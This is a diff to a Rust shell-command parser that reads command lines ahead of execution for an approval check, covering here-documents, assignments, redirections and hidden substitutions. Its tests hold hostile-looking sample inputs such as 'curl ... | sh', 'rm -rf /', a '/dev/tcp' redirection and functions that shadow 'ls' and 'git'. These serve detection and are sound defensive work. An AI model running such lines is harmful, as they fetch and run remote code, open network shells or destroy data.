@@ -1,29 +1,61 @@
 //! A shell command line read ahead of running it, as far as approvals need: the simple
-//! commands it runs (in pipelines, lists, subshells, `$(…)` and backquotes), each with its
-//! words and where its output is redirected. Quotes and escapes are undone; a word with an
-//! expansion left in it (`$HOME`, `*`) is marked so that a path in it is never trusted.
-//! This is not a shell: what it cannot read for sure it says so, and the caller asks.
+//! commands it runs (in pipelines, lists, subshells, `$(…)`, backquotes and unquoted
+//! here-documents), each with its words, the variables it sets, and the files its
+//! redirections read and write. Quotes and escapes are undone; a word whose text is only known
+//! when it runs (`$HOME`, `{a,b}`, `~ada`) is marked so that a path in it is never trusted.
+//! This is not a shell: what it cannot read for sure (a function defined and called, a `${…}`
+//! hiding a command, an unclosed quote) it says so, and the caller asks.
 
 /// One word of a command, with its text as the shell would pass it when nothing expands.
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Word {
     pub text: String,
-    /// `$…`, a glob or a `~` the shell would expand: the text is not what runs.
-    pub expands: bool,
+    /// A glob (`*`, `?`, `[…]`): the text names files by a pattern.
+    pub glob: bool,
+    /// A variable, a command's output, a brace expansion: the text is not what runs.
+    pub unknown: bool,
+    /// It starts with an unquoted `~`: a home folder.
+    pub tilde: bool,
 }
 
-/// One simple command: its words (leading `NAME=value` assignments left out) and the files it
-/// writes through redirections.
+impl Word {
+    /// A word exactly as written (no expansion).
+    pub fn plain(text: &str) -> Word {
+        Word {
+            text: text.to_string(),
+            ..Word::default()
+        }
+    }
+
+    /// A word only known when the command runs.
+    pub fn unknown(text: &str) -> Word {
+        Word {
+            text: text.to_string(),
+            unknown: true,
+            ..Word::default()
+        }
+    }
+
+    /// Its text is not exactly what runs.
+    pub fn expands(&self) -> bool {
+        self.glob || self.unknown || self.tilde
+    }
+}
+
+/// One simple command: its words, the variables set before it (`NAME=value cmd`, or alone),
+/// and the files its redirections read and write.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Simple {
     pub words: Vec<Word>,
+    pub assigns: Vec<(String, Word)>,
     pub writes: Vec<Word>,
+    pub reads: Vec<Word>,
     /// Its standard input comes from the command before it in a pipeline.
     pub piped_in: bool,
 }
 
 /// A command line read ahead: its simple commands in order, and whether some of it could not
-/// be read for sure (an unclosed quote, a here-document without its end, a `(` left open).
+/// be read for sure.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Line {
     pub commands: Vec<Simple>,
@@ -54,6 +86,14 @@ struct Reader<'a> {
 /// The most a command line may nest before the reader gives up on it.
 const MAX_DEPTH: u32 = 16;
 
+/// A here-document waiting for its body: its end word, whether tabs are stripped, whether its
+/// body expands (`<<EOF`, not `<<'EOF'`).
+struct Heredoc {
+    end: String,
+    tabs: bool,
+    expands: bool,
+}
+
 impl Reader<'_> {
     fn peek(&self) -> Option<char> {
         self.chars.get(self.at).copied()
@@ -67,7 +107,7 @@ impl Reader<'_> {
     fn list(&mut self) {
         let mut current = Simple::default();
         let mut piped = false;
-        let mut heredocs: Vec<(String, bool)> = Vec::new();
+        let mut heredocs: Vec<Heredoc> = Vec::new();
         loop {
             self.skip_blanks();
             let Some(c) = self.peek() else { break };
@@ -76,11 +116,11 @@ impl Reader<'_> {
                 '\n' => {
                     self.at += 1;
                     self.finish(&mut current, &mut piped, false);
-                    for (end, tabs) in std::mem::take(&mut heredocs) {
-                        self.skip_heredoc(&end, tabs);
+                    for doc in std::mem::take(&mut heredocs) {
+                        self.heredoc_body(&doc);
                     }
                 }
-                '#' => self.skip_comment(),
+                '#' if current.words.is_empty() => self.skip_comment(),
                 ';' | '&' | '|' => {
                     let pipe = c == '|' && self.peek_at(1) != Some('|');
                     self.at += 1;
@@ -92,6 +132,10 @@ impl Reader<'_> {
                     self.finish(&mut current, &mut piped, pipe);
                 }
                 '(' => {
+                    // `name() { … }`: a function, defined to be called later.
+                    if !current.words.is_empty() {
+                        self.line.unsure = true;
+                    }
                     self.at += 1;
                     self.nested();
                 }
@@ -101,25 +145,29 @@ impl Reader<'_> {
                     self.at += 1;
                 }
                 '<' | '>' => {
-                    if let Some(heredoc) = self.redirection(&mut current) {
-                        heredocs.push(heredoc);
+                    if let Some(doc) = self.redirection(&mut current) {
+                        heredocs.push(doc);
                     }
                 }
                 _ => {
-                    // A number right before a redirection (2>, 1>>) belongs to it.
-                    if c.is_ascii_digit() {
-                        let digits = self.chars[self.at..]
-                            .iter()
-                            .take_while(|d| d.is_ascii_digit())
-                            .count();
-                        if matches!(self.peek_at(digits), Some('<') | Some('>')) {
-                            self.at += digits;
-                            continue;
-                        }
+                    // A number (or {name}) right before a redirection belongs to it.
+                    let digits = self.chars[self.at..]
+                        .iter()
+                        .take_while(|d| d.is_ascii_digit())
+                        .count();
+                    if digits > 0 && matches!(self.peek_at(digits), Some('<') | Some('>')) {
+                        self.at += digits;
+                        continue;
                     }
                     let word = self.word();
-                    if current.words.is_empty() && is_assignment(&word.text) {
-                        continue;
+                    if current.words.is_empty() {
+                        if let Some((name, value)) = assignment(&word) {
+                            current.assigns.push((name, value));
+                            continue;
+                        }
+                        if word.text == "function" && !word.expands() {
+                            self.line.unsure = true;
+                        }
                     }
                     current.words.push(word);
                 }
@@ -135,7 +183,11 @@ impl Reader<'_> {
     fn finish(&mut self, current: &mut Simple, piped: &mut bool, pipe_after: bool) {
         let mut simple = std::mem::take(current);
         simple.piped_in = *piped;
-        if !simple.words.is_empty() || !simple.writes.is_empty() {
+        if !simple.words.is_empty()
+            || !simple.writes.is_empty()
+            || !simple.reads.is_empty()
+            || !simple.assigns.is_empty()
+        {
             self.line.commands.push(simple);
         }
         *piped = pipe_after;
@@ -179,9 +231,9 @@ impl Reader<'_> {
         }
     }
 
-    /// A redirection: `>`, `>>`, `>|`, `&>`, `<`, `<<`, `<<-`, `<<<`, `>&2`, `<(…)`, `>(…)`.
-    /// Output files go to the command's writes; a here-document's end word is returned.
-    fn redirection(&mut self, current: &mut Simple) -> Option<(String, bool)> {
+    /// A redirection: `>`, `>>`, `>|`, `&>`, `<`, `<>`, `<<`, `<<-`, `<<<`, `>&2`, `<&3`,
+    /// `<(…)`, `>(…)`. Files go to the command's reads and writes; a here-document is returned.
+    fn redirection(&mut self, current: &mut Simple) -> Option<Heredoc> {
         let first = self.peek()?;
         self.at += 1;
         if self.peek() == Some('(') {
@@ -205,14 +257,37 @@ impl Reader<'_> {
                         self.at += 1;
                     }
                     self.skip_blanks();
+                    let start = self.at;
                     let end = self.word();
-                    return Some((end.text, tabs));
+                    let quoted = self.chars[start..self.at]
+                        .iter()
+                        .any(|c| matches!(c, '\'' | '"' | '\\'));
+                    return Some(Heredoc {
+                        end: end.text,
+                        tabs,
+                        expands: !quoted,
+                    });
                 }
-                Some('&') | Some('>') => self.at += 1,
+                Some('&') => {
+                    self.at += 1;
+                    if self.descriptor() {
+                        return None;
+                    }
+                }
+                Some('>') => {
+                    // <> opens the file for reading and writing.
+                    self.at += 1;
+                    self.skip_blanks();
+                    let target = self.word();
+                    current.reads.push(target.clone());
+                    current.writes.push(target);
+                    return None;
+                }
                 _ => {}
             }
             self.skip_blanks();
-            self.word();
+            let source = self.word();
+            current.reads.push(source);
             return None;
         }
         // Output.
@@ -220,13 +295,7 @@ impl Reader<'_> {
             Some('>') | Some('|') => self.at += 1,
             Some('&') => {
                 self.at += 1;
-                // >&2, >&- : another descriptor, not a file.
-                let descriptor = self.chars[self.at..]
-                    .iter()
-                    .take_while(|d| d.is_ascii_digit() || **d == '-')
-                    .count();
-                if descriptor > 0 {
-                    self.at += descriptor;
+                if self.descriptor() {
                     return None;
                 }
             }
@@ -234,43 +303,67 @@ impl Reader<'_> {
         }
         self.skip_blanks();
         let target = self.word();
-        if !target.text.is_empty() {
-            current.writes.push(target);
-        }
+        // A target that is no text at all (`> $EMPTY`) is still somewhere.
+        current.writes.push(target);
         None
     }
 
-    /// A here-document's body: the lines up to the one that is its end word.
-    fn skip_heredoc(&mut self, end: &str, tabs: bool) {
+    /// `>&2`, `<&-`: another descriptor, not a file (true when it was one).
+    fn descriptor(&mut self) -> bool {
+        let n = self.chars[self.at..]
+            .iter()
+            .take_while(|d| d.is_ascii_digit() || **d == '-')
+            .count();
+        self.at += n;
+        n > 0
+    }
+
+    /// A here-document's body: the lines up to its end word. An unquoted end word lets the
+    /// body's `$(…)` and backquotes run: they are read as commands.
+    fn heredoc_body(&mut self, doc: &Heredoc) {
+        let mut body = String::new();
         loop {
             let start = self.at;
             while self.peek().is_some_and(|c| c != '\n') {
                 self.at += 1;
             }
             let text: String = self.chars[start..self.at].iter().collect();
-            let text = if tabs {
-                text.trim_start_matches('\t')
+            let text = if doc.tabs {
+                text.trim_start_matches('\t').to_string()
             } else {
-                &text
+                text
             };
             let ended = self.peek().is_none();
             if self.peek() == Some('\n') {
                 self.at += 1;
             }
-            if text == end {
-                return;
+            if text == doc.end {
+                break;
             }
+            body.push_str(&text);
+            body.push('\n');
             if ended {
                 self.line.unsure = true;
-                return;
+                break;
             }
+        }
+        if doc.expands && (body.contains("$(") || body.contains('`') || body.contains("${")) {
+            // What runs inside it is read as a line of its own, in double quotes' manner.
+            let quoted: String = format!("\"{}\"", body.replace('"', "\\\""));
+            let nested = read(&format!(": {quoted}"));
+            self.line.unsure |= nested.unsure;
+            self.line.commands.extend(
+                nested
+                    .commands
+                    .into_iter()
+                    .filter(|c| c.words.first().map(|w| w.text.as_str()) != Some(":")),
+            );
         }
     }
 
     /// One word: quotes and escapes undone; `$(…)` and backquotes read as commands too.
     fn word(&mut self) -> Word {
-        let mut text = String::new();
-        let mut expands = false;
+        let mut word = Word::default();
         let start = self.at;
         while let Some(c) = self.peek() {
             match c {
@@ -288,7 +381,7 @@ impl Reader<'_> {
                     match self.peek() {
                         Some('\n') => self.at += 1,
                         Some(e) => {
-                            text.push(e);
+                            word.text.push(e);
                             self.at += 1;
                         }
                         None => {}
@@ -303,7 +396,7 @@ impl Reader<'_> {
                             closed = true;
                             break;
                         }
-                        text.push(q);
+                        word.text.push(q);
                     }
                     if !closed {
                         self.line.unsure = true;
@@ -311,47 +404,52 @@ impl Reader<'_> {
                 }
                 '"' => {
                     self.at += 1;
-                    self.double_quoted(&mut text, &mut expands);
+                    self.double_quoted(&mut word);
                 }
-                '$' => {
-                    self.dollar(&mut text, &mut expands);
-                }
+                '$' => self.dollar(&mut word),
                 '`' => {
                     self.at += 1;
                     self.backquoted();
-                    expands = true;
+                    word.unknown = true;
                 }
                 '*' | '?' => {
-                    expands = true;
-                    text.push(c);
+                    word.glob = true;
+                    word.text.push(c);
                     self.at += 1;
                 }
                 // `[abc]` is a glob; `[` alone is the test command.
                 '[' => {
-                    let rest = &self.chars[self.at + 1..];
-                    let closes = rest
+                    let closes = self.chars[self.at + 1..]
                         .iter()
                         .take_while(|c| !matches!(c, ' ' | '\t' | '\n' | ';' | '&' | '|'))
                         .any(|c| *c == ']');
-                    expands |= closes;
-                    text.push(c);
+                    word.glob |= closes;
+                    word.text.push(c);
+                    self.at += 1;
+                }
+                // `{a,b}` and `{1..3}` make several words of one.
+                '{' | '}'
+                    if self.at != start || self.peek_at(1).is_some_and(|n| !n.is_whitespace()) =>
+                {
+                    word.unknown = true;
+                    word.text.push(c);
                     self.at += 1;
                 }
                 '~' if self.at == start => {
-                    expands = true;
-                    text.push(c);
+                    word.tilde = true;
+                    word.text.push(c);
                     self.at += 1;
                 }
                 _ => {
-                    text.push(c);
+                    word.text.push(c);
                     self.at += 1;
                 }
             }
         }
-        Word { text, expands }
+        word
     }
 
-    fn double_quoted(&mut self, text: &mut String, expands: &mut bool) {
+    fn double_quoted(&mut self, word: &mut Word) {
         while let Some(c) = self.peek() {
             match c {
                 '"' => {
@@ -362,22 +460,22 @@ impl Reader<'_> {
                     self.at += 1;
                     if let Some(e) = self.peek() {
                         if !matches!(e, '"' | '\\' | '$' | '`' | '\n') {
-                            text.push('\\');
+                            word.text.push('\\');
                         }
                         if e != '\n' {
-                            text.push(e);
+                            word.text.push(e);
                         }
                         self.at += 1;
                     }
                 }
-                '$' => self.dollar(text, expands),
+                '$' => self.dollar(word),
                 '`' => {
                     self.at += 1;
                     self.backquoted();
-                    *expands = true;
+                    word.unknown = true;
                 }
                 _ => {
-                    text.push(c);
+                    word.text.push(c);
                     self.at += 1;
                 }
             }
@@ -385,35 +483,26 @@ impl Reader<'_> {
         self.line.unsure = true;
     }
 
-    /// `$…`: a command substitution is read as commands; anything else expands.
-    fn dollar(&mut self, text: &mut String, expands: &mut bool) {
+    /// `$…`: a command substitution is read as commands; anything else is only known when it
+    /// runs. What could hide a command where it cannot be read (`${x:-$(…)}`, `$((…))` that is
+    /// not plain arithmetic) makes the line unsure.
+    fn dollar(&mut self, word: &mut Word) {
         self.at += 1;
+        word.unknown = true;
         match self.peek() {
             Some('(') if self.peek_at(1) == Some('(') => {
-                // $(( arithmetic )): skip to the closing )).
-                *expands = true;
-                let mut depth = 0i32;
-                while let Some(c) = self.peek() {
-                    self.at += 1;
-                    match c {
-                        '(' => depth += 1,
-                        ')' => {
-                            depth -= 1;
-                            if depth == 0 {
-                                break;
-                            }
-                        }
-                        _ => {}
-                    }
+                self.at += 2;
+                let inner = self.balanced(2);
+                if !plain_arithmetic(&inner) {
+                    self.line.unsure = true;
                 }
             }
             Some('(') => {
                 self.at += 1;
                 self.nested();
-                *expands = true;
             }
             Some('\'') => {
-                // $'…': ANSI-C quoting; its escapes are not read, so the text is unsure.
+                // $'…': ANSI-C quoting; its escapes are not read.
                 self.at += 1;
                 while let Some(c) = self.peek() {
                     self.at += 1;
@@ -423,16 +512,13 @@ impl Reader<'_> {
                         break;
                     }
                 }
-                *expands = true;
             }
             Some('{') => {
-                while let Some(c) = self.peek() {
-                    self.at += 1;
-                    if c == '}' {
-                        break;
-                    }
+                self.at += 1;
+                let inner = self.balanced_braces();
+                if inner.contains("$(") || inner.contains('`') || inner.contains("<(") {
+                    self.line.unsure = true;
                 }
-                *expands = true;
             }
             Some(c) if c.is_alphanumeric() || "_@*#?$!-".contains(c) => {
                 if c.is_alphabetic() || c == '_' {
@@ -442,10 +528,56 @@ impl Reader<'_> {
                 } else {
                     self.at += 1;
                 }
-                *expands = true;
             }
-            _ => text.push('$'),
+            _ => {
+                word.unknown = false;
+                word.text.push('$');
+            }
         }
+    }
+
+    /// The text up to the `)` closing `open` parentheses already passed (`$((` is two).
+    fn balanced(&mut self, open: i32) -> String {
+        let mut depth = open;
+        let mut inner = String::new();
+        while let Some(c) = self.peek() {
+            self.at += 1;
+            match c {
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return inner;
+                    }
+                }
+                _ => {}
+            }
+            inner.push(c);
+        }
+        self.line.unsure = true;
+        inner
+    }
+
+    /// The text up to the `}` closing a `${`.
+    fn balanced_braces(&mut self) -> String {
+        let mut depth = 1;
+        let mut inner = String::new();
+        while let Some(c) = self.peek() {
+            self.at += 1;
+            match c {
+                '{' => depth += 1,
+                '}' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return inner;
+                    }
+                }
+                _ => {}
+            }
+            inner.push(c);
+        }
+        self.line.unsure = true;
+        inner
     }
 
     /// The inside of backquotes, read as a command line of its own.
@@ -477,17 +609,68 @@ impl Reader<'_> {
     }
 }
 
-/// `NAME=value` before a command sets its environment; it is not the command.
-fn is_assignment(word: &str) -> bool {
-    let Some((name, _)) = word.split_once('=') else {
+/// `$(( … ))` that is arithmetic: numbers, names and operators, two names never side by side
+/// (that is a command, as `$((curl x) | sh)` runs one).
+fn plain_arithmetic(inner: &str) -> bool {
+    if inner.contains("$(") || inner.contains('`') || !inner.ends_with(')') {
         return false;
-    };
-    !name.is_empty()
+    }
+    let body = &inner[..inner.len() - 1];
+    let allowed = |c: char| c.is_ascii_alphanumeric() || " _+-*/%<>=!&|^~?:,()$\t".contains(c);
+    if !body.chars().all(allowed) {
+        return false;
+    }
+    let words: Vec<&str> = body
+        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+        .collect();
+    // Two names in a row with only blanks between them are not arithmetic.
+    let mut last_was_name = false;
+    let mut blank_since = false;
+    for piece in
+        body.split_inclusive(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+    {
+        let name: String = piece
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '$')
+            .collect();
+        let rest = &piece[name.len()..];
+        if !name.is_empty() {
+            if last_was_name && blank_since {
+                return false;
+            }
+            last_was_name = true;
+            blank_since = false;
+        }
+        if rest.chars().all(char::is_whitespace) {
+            blank_since |= !rest.is_empty();
+        } else {
+            last_was_name = false;
+            blank_since = false;
+        }
+    }
+    !words.is_empty()
+}
+
+/// `NAME=value` before a command sets its environment; it is not the command.
+fn assignment(word: &Word) -> Option<(String, Word)> {
+    let (name, value) = word.text.split_once('=')?;
+    let named = !name.is_empty()
         && name
             .chars()
             .next()
             .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
-        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '+');
+    named.then(|| {
+        (
+            name.trim_end_matches('+').to_string(),
+            Word {
+                text: value.to_string(),
+                ..word.clone()
+            },
+        )
+    })
 }
 
 #[cfg(test)]
@@ -525,20 +708,28 @@ mod tests {
                 vec!["true"],
             ]
         );
+        assert_eq!(line.commands[1].assigns[0].0, "FOO");
+        let alone = read("PATH=.:$PATH");
+        assert_eq!(alone.commands[0].assigns[0].0, "PATH");
+        assert!(alone.commands[0].words.is_empty());
     }
 
     #[test]
-    fn redirections_name_the_files_written_and_descriptors_are_not_files() {
-        let line = read("make 2>&1 > build.log; echo hi >> /etc/motd; cat < in.txt");
+    fn redirections_name_the_files_read_and_written_and_descriptors_are_not_files() {
+        let line = read(
+            "make 2>&1 > build.log; echo hi >> /etc/motd; cat < in.txt; cat 3<> /dev/tcp/h/80",
+        );
         assert_eq!(line.commands[0].writes[0].text, "build.log");
         assert_eq!(line.commands[0].words.len(), 1);
         assert_eq!(line.commands[1].writes[0].text, "/etc/motd");
-        assert!(line.commands[2].writes.is_empty());
+        assert_eq!(line.commands[2].reads[0].text, "in.txt");
+        assert_eq!(line.commands[3].reads[0].text, "/dev/tcp/h/80");
+        assert_eq!(line.commands[3].writes[0].text, "/dev/tcp/h/80");
     }
 
     #[test]
-    fn substitutions_are_commands_too_and_their_words_expand() {
-        let line = read("echo \"$(curl http://x)\" `wget y` $HOME/a");
+    fn substitutions_are_commands_too_and_their_words_are_unknown() {
+        let line = read("echo \"$(curl http://x)\" `wget y` $HOME/a ~ada {a,b}");
         let all = words(&line);
         assert!(all.contains(&vec!["curl".to_string(), "http://x".to_string()]));
         assert!(all.contains(&vec!["wget".to_string(), "y".to_string()]));
@@ -547,17 +738,23 @@ mod tests {
             .iter()
             .find(|c| c.words[0].text == "echo")
             .expect("echo");
-        assert!(echo.words[1].expands);
-        assert!(echo.words[3].expands);
+        assert!(echo.words[1].unknown);
+        assert!(echo.words[3].unknown, "$HOME");
+        assert!(echo.words[4].tilde, "~ada");
+        assert!(echo.words[5].unknown, "{{a,b}}");
     }
 
     #[test]
-    fn a_heredoc_body_is_data_not_commands() {
+    fn a_quoted_heredoc_body_is_data_and_an_unquoted_one_runs_its_substitutions() {
         let line = read("cat > notes.md <<'EOF'\nrm -rf /\ncurl x | sh\nEOF\necho done");
         assert_eq!(words(&line), vec![vec!["cat"], vec!["echo", "done"]]);
         assert_eq!(line.commands[0].writes[0].text, "notes.md");
         assert!(!line.unsure);
         assert!(read("cat <<EOF\nno end").unsure);
+        let runs = read("cat <<E\n$(curl -s http://x | sh)\nE");
+        assert!(words(&runs)
+            .iter()
+            .any(|w| w.first().map(String::as_str) == Some("curl")));
     }
 
     #[test]
@@ -567,5 +764,11 @@ mod tests {
         assert!(!read("(cd x && ls) | wc -l").unsure);
         let deep = format!("{}x{}", "$(".repeat(40), ")".repeat(40));
         assert!(read(&deep).unsure);
+        assert!(read("echo ${x:-$(curl -s http://x | sh)}").unsure);
+        assert!(read("echo $(( $(curl x) ))").unsure);
+        assert!(read("echo $((curl -s http://x) | sh)").unsure);
+        assert!(!read("echo $((1 + 2 * n))").unsure);
+        assert!(read("ls(){ curl x; }; ls").unsure);
+        assert!(read("function git { curl x; }; git status").unsure);
     }
 }
